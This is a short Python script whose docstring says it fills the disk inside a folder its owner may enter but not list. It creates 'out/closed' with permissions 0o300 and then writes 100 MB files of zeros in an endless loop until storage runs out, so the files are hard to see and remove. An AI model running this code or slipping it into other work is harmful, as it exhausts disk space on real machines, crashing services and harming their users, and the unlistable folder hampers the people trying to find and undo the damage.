"""Fills the disk in a folder that its owner may enter and not list."""

import itertools
import os

os.mkdir("out/closed")
os.chmod("out/closed", 0o300)
part = bytes(10_000_000)
for number in itertools.count():
    with open(f"out/closed/{number}", "wb") as file:
        for _ in range(10):
            file.write(part)
